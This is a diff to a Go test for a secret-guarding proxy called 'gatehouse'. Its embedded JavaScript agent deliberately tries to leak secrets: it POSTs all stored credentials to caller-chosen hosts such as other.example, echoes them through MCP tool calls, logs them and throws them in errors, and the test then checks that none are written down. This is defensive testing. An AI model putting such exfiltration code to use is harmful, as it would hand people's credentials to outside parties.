@@ -22,12 +22,14 @@ const everySecretAgent = `import { DurableObject } from "cloudflare:workers";
 export class Keeper extends DurableObject {
 	async keep(digest) { await this.ctx.storage.put("digest", digest); throw new Error("kept " + this.env.KEY); }
 }
-export default { async fetch(request, env) {
+export default { async fetch(request, env, ctx) {
 	const { pathname, searchParams: q } = new URL(request.url);
 	const all = [env.KEY, await env.STORED.get(), await env.LOGIN.get()];
 	switch (pathname) {
 	case "/call": { const r = await fetch(q.get("to"), { method: "POST", body: "text" }); return new Response(await r.text(), { status: r.status, headers: r.headers }); }
 	case "/leak": return fetch(q.get("to"), { method: "POST", body: all.join() });
+	case "/tool": return new Response(await ctx.tool("tool " + all[0], all, () => { throw new Error(all[1]) }).catch(() => ctx.tool("again", all[0], () => all)));
+	case "/mcp": { const r = await fetch(q.get("to"), { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "see", arguments: {} } }) }); return new Response(await r.text()); }
 	case "/log": console.log(all, btoa(all[0])); console.error(new Error(all[1])); return new Response("logged");
 	case "/throw": throw new TypeError(all.join());
 	case "/actor": return new Response(await env.KEEPER.getByName("k").keep("nothing").catch(e => "failed"));
@@ -52,19 +54,31 @@ func TestNoSecretIsWrittenDown(t *testing.T) {
 		reached.Add(1)
 		b, _ := io.ReadAll(r.Body)
 		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+		if strings.Contains(string(b), "tools/call") { // a tool that gives back what it was sent
+			w.Header().Set("Content-Type", "application/json")
+			fmt.Fprintf(w, `{"jsonrpc":"2.0","id":1,"error":{"message":"what came: %s"}}`, r.Header.Get("Authorization"))
+			return
+		}
 		if r.URL.Path == "/broken" {
 			w.WriteHeader(http.StatusInternalServerError)
 		}
 		fmt.Fprint(w, r.Header, r.URL, string(b))
 	})
-	o := newOAuthServer(t)
+	o, collected := newOAuthServer(t), newCollector(t)
 	proxySecret, digest := access.NewServiceToken()
 	proxyPort := freePort(t)
 	rule := func(path, inject string) string {
 		return fmt.Sprintf("\tallow %s {\n\t\tpaths %s\n\t\tinject %s\n\t\tinject_over_http\n\t}\n", api.host(), path, inject)
 	}
 	s := newServer(t, map[string]string{
-		"Caddyfile": site(fmt.Sprintf(`%segress out {
+		"Caddyfile": site(fmt.Sprintf(`records {
+	tool_text
+}
+audit ./audit {
+	fail closed
+}
+telemetry
+%segress out {
 %s	allow *.localhost
 	allow_ip 127.0.0.1 ::1
 	dlp secrets
@@ -85,7 +99,7 @@ agent user {
 }`, o.client("login"),
 			rule("/bearer", "bearer {secret.bearer}")+rule("/broken", "bearer {oauth.login}")+rule("/basic", "basic user {secret.password}")+rule("/query", "query key {secret.query}")+
 				rule("/hmac", `hmac X-Signature "sha256={hmac}" {secret.hmac}`)+rule("/aws", "aws_sigv4 eu-west-1 service AKIDEXAMPLE {secret.aws}"), proxyPort),
-			"log\nagent user\nhandle_errors {\n\trespond \"{err.status_code} {err.message}\"\n}") + fmt.Sprintf("\nhttp://:%d {\n\tlog\n\tkey_directory http://127.0.0.1:%[1]d\n\tegress_proxy out {\n\t\tclient program %s\n\t\tintercept\n\t}\n}\n", proxyPort, digest),
+			"log\nagent_dashboard {\n\tlocal\n}\nagent user\nhandle_errors {\n\trespond \"{err.status_code} {err.message}\"\n}") + fmt.Sprintf("\nhttp://:%d {\n\tlog\n\tkey_directory http://127.0.0.1:%[1]d\n\tegress_proxy out {\n\t\tclient program %s\n\t\tintercept\n\t}\n}\n", proxyPort, digest),
 		"user.ts": everySecretAgent,
 		"start":   "#!/bin/sh\nulimit -c unlimited\nexec " + binary + " \"$@\"\n",
 	})
@@ -96,6 +110,7 @@ agent user {
 		s.must(value, "gatehouse", "secret", "put", name)
 	}
 	s.must(o.seed, "gatehouse", "secret", "put", "login")
+	s.environ = collected.environ()
 	s.program = filepath.Join(s.dir, "start")
 	s.start()
 	admin := fmt.Sprintf("127.0.0.1:%d", s.admin)
@@ -114,11 +129,12 @@ agent user {
 		}
 		get("/leak?to=" + url.QueryEscape(api.URL+"/"+path))
 	}
+	mustContain(t, "a tool that says what it was sent", get("/mcp?to="+url.QueryEscape(api.URL+"/bearer")), "what came")
 	for _, to := range []string{"http://gone.localhost:1/", "http://127.0.0.1:1/", "https://other.example/", "http://x.localhost:" + fmt.Sprint(api.port())} {
 		get("/call?to=" + url.QueryEscape(to))
 		get("/leak?to=" + url.QueryEscape(to))
 	}
-	for _, path := range []string{"/", "/log", "/throw", "/actor", "/spin", "/hang", "/url"} {
+	for _, path := range []string{"/", "/tool", "/log", "/throw", "/actor", "/spin", "/hang", "/url"} {
 		get(path)
 	}
 	for _, args := range [][]string{{api.URL + "/bearer"}, {"https://other.example/"}, {api.URL + "/none"}} {
@@ -153,6 +169,21 @@ agent user {
 		resp.Body.Close()
 		seen = append(seen, string(b))
 	}
+	list := get("/gatehouse/api/records")
+	for _, r := range decode[struct{ Rows []struct{ ID string } }](t, list).Rows {
+		get("/gatehouse/api/records/" + r.ID)
+	}
+	for _, view := range []string{"graph", "refusals", "unusual", "agents", "approvals?all=1", "namespaces"} {
+		get("/gatehouse/api/" + view)
+	}
+	s.wait("the collector", func() bool {
+		collected.mu.Lock()
+		defer collected.mu.Unlock()
+		return strings.Contains(string(collected.raw), "execute_tool see")
+	})
+	collected.mu.Lock()
+	seen = append(seen, string(collected.raw))
+	collected.mu.Unlock()
 	seen = append(seen, s.must("", "gatehouse", "secret", "list", "--json"), s.must("", "gatehouse", "actors", "export"), s.must("", "gatehouse", "approvals", "list", "--all", "--address", admin))
 	for len(tail) > 0 {
 		seen = append(seen, <-tail)
